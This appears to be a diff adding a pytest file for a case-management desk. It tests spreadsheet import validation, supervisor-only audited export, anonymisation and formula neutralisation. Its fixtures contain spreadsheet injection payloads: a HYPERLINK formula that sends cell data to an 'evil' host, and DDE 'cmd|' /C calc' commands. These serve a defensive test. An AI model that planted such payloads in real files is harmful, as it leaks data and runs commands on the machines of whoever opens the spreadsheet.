@@ -1,0 +1,138 @@
+"""Spreadsheets in and out: checked before anything is imported, formulas neutralised
+on the way out, anonymised exports without personal data."""
+
+import csv
+
+import pytest
+
+from tests.conftest import DEMO_UNTIL
+from workstation.demo.generator import DEMO_PASSWORD, DemoSize, generate_demo
+from workstation.domain.permissions import PermissionDenied
+from workstation.errors import ValidationError
+from workstation.persistence.database import DESK_DB_NAME, open_desk_database
+from workstation.persistence.models import Case
+from workstation.services import case_transfer, cases
+from workstation.services.accounts import sign_in
+
+GOOD = """client_name,client_phone,client_cnic,district,category,opened_on,narrative
+Zqrubina Bibi,0345-0922001,42101-0092200-2,Karachi South,dv_physical,2025-03-04,Beaten by husband
+روبینہ,0345-0922002,,Lahore,Khula (dissolution of marriage sought by wife),12/05/2024,خلع کا مقدمہ
+"""
+BAD = """client_name,client_phone,client_cnic,district,category,opened_on,narrative
+Good Row,0345-0922003,,Quetta,dv_physical,2025-01-01,fine
+Bad Cnic,0345-0922004,12345,Quetta,dv_physical,2025-01-01,x
+Bad Date,,,Nowhere,dv_physical,2999-01-01,x
+=HYPERLINK("http://evil/?"&A1),,,,no_such_category,,x
+"""
+
+
+@pytest.fixture
+def desk(tmp_path):
+    generate_demo(tmp_path / "d", DemoSize(contacts=100, cases=20, services=5,
+                                           until=DEMO_UNTIL))
+    database = open_desk_database(tmp_path / "d")
+    users = {u: sign_in(database, u, DEMO_PASSWORD)
+             for u in ("khi-counsellor1", "khi-supervisor1")}
+    yield tmp_path, database, users
+    database.close()
+
+
+def _count(database):
+    with database.uow() as uow:
+        return uow.session.query(Case).count()
+
+
+def test_a_clean_file_imports_sealed_with_its_own_dates(desk):
+    folder, database, users = desk
+    me = users["khi-counsellor1"]
+    (folder / "good.csv").write_text(GOOD, encoding="utf-8")
+    report = case_transfer.import_cases(database, me, folder / "good.csv")
+    assert (report.rows, report.valid, report.imported, report.problems) == (2, 2, 2, [])
+    opened = [cases.open_case(database, me, case_id) for case_id in _ids(database, report)]
+    assert {o.persons[0].name for o in opened} == {"Zqrubina Bibi", "روبینہ"}
+    assert {o.opened_at.year for o in opened} == {2025, 2024}
+    assert {o.category_code for o in opened} == {"dv_physical", "fam_khula"}
+    assert {o.district_code for o in opened} == {"SD-KHS", "PB-LHR"}
+    assert b"Zqrubina" not in (folder / "d" / DESK_DB_NAME).read_bytes()
+
+
+def _ids(database, report):
+    from sqlalchemy import select
+
+    with database.uow() as uow:
+        return list(uow.session.scalars(select(Case.id).where(
+            Case.reference.in_(report.references))))
+
+
+def test_a_file_with_errors_imports_nothing_and_says_where(desk):
+    folder, database, users = desk
+    (folder / "bad.csv").write_text(BAD, encoding="utf-8")
+    before = _count(database)
+    report = case_transfer.import_cases(database, users["khi-counsellor1"], folder / "bad.csv")
+    assert report.imported == 0 and _count(database) == before
+    where = {(p.row, p.field) for p in report.problems}
+    assert (3, "client_cnic") in where
+    assert (4, "district") in where or (4, "opened_on") in where
+    assert (5, "category") in where
+    assert all("0345" not in str(p) for p in report.problems)
+
+
+def test_valid_rows_only_when_asked(desk):
+    folder, database, users = desk
+    (folder / "bad.csv").write_text(BAD, encoding="utf-8")
+    before = _count(database)
+    report = case_transfer.import_cases(database, users["khi-counsellor1"],
+                                        folder / "bad.csv", valid_only=True)
+    assert report.imported == 1 and _count(database) == before + 1
+
+
+def test_other_encodings_and_xlsx(desk):
+    folder, database, users = desk
+    me = users["khi-counsellor1"]
+    (folder / "cp1252.csv").write_bytes("client_name,narrative\nJosé,café\n".encode("cp1252"))
+    with pytest.raises(ValidationError, match="not UTF-8"):
+        case_transfer.import_cases(database, me, folder / "cp1252.csv")
+    (folder / "utf16.csv").write_bytes(GOOD.encode("utf-16"))
+    assert case_transfer.import_cases(database, me, folder / "utf16.csv").imported == 2
+    import openpyxl
+
+    book = openpyxl.Workbook()
+    sheet = book.active
+    for row in csv.reader(GOOD.splitlines()):
+        sheet.append(row)
+    book.save(folder / "cases.xlsx")
+    assert case_transfer.import_cases(database, me, folder / "cases.xlsx").imported == 2
+    (folder / "broken.xlsx").write_bytes(b"PK\x03\x04 not really")
+    with pytest.raises(ValidationError, match="not a readable XLSX"):
+        case_transfer.import_cases(database, me, folder / "broken.xlsx")
+
+
+def test_export_is_for_supervisors_audited_and_neutralises_formulas(desk):
+    folder, database, users = desk
+    me, supervisor = users["khi-counsellor1"], users["khi-supervisor1"]
+    cases.save_case(database, me, cases.CaseRecord(
+        category_code="dv_physical", narrative="=cmd|' /C calc'!A0",
+        persons=[cases.PersonOnCase(role="client", name="@SUM(1+1)",
+                                    phone="0345-0922099")]))
+    with pytest.raises(PermissionDenied):
+        case_transfer.export_cases(database, me, folder / "x.csv")
+    full = case_transfer.export_cases(database, supervisor, folder / "full.csv",
+                                      anonymised=False)
+    rows = list(csv.DictReader((folder / "full.csv").open(encoding="utf-8-sig")))
+    assert len(rows) == full > 0
+    planted = next(r for r in rows if r["client_phone"] == "+923450922099")
+    assert planted["client_name"] == "'@SUM(1+1)"
+    assert planted["narrative"].startswith("'=")
+    anonymised = case_transfer.export_cases(database, supervisor, folder / "anon.csv")
+    text = (folder / "anon.csv").read_text(encoding="utf-8-sig")
+    assert anonymised == full
+    assert "0922099" not in text and "SUM" not in text and "reference" not in text
+    assert text.splitlines()[0].startswith("row,opened_month,status")
+
+
+@pytest.mark.parametrize("cell,out", [
+    ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("@SUM(1)", "'@SUM(1)"), ("-2+3", "'-2+3"), ("+923001234567", "+923001234567"),
+    ("-5", "-5"), ("Ayesha", "Ayesha"), ("", "")])
+def test_neutralise(cell, out):
+    assert case_transfer.neutralise(cell) == out
